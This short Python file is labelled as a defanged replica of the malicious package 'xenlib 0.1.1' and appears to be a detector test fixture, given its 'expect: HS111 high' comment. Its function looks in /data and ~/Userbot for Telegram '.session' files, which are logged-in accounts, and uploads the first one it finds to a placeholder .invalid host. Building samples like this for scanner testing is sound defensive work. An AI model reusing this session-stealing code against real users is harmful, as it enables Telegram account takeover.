# Defanged replica of xenlib 0.1.1: looks through userbot folders for a
# Telethon/Pyrogram `.session` file (a logged-in Telegram account) and
# uploads the first one it finds. The host is .invalid.
import os

import requests


def send():
    for folder in ("/data", os.path.expanduser("~/Userbot")):
        if not os.path.isdir(folder):
            continue
        for name in os.listdir(folder):
            if name.endswith(".session"):
                with open(os.path.join(folder, name), "rb") as f:
                    requests.post("http://api.example.invalid:14880/up", files={"f": f}, timeout=15)  # expect: HS111 high
                return
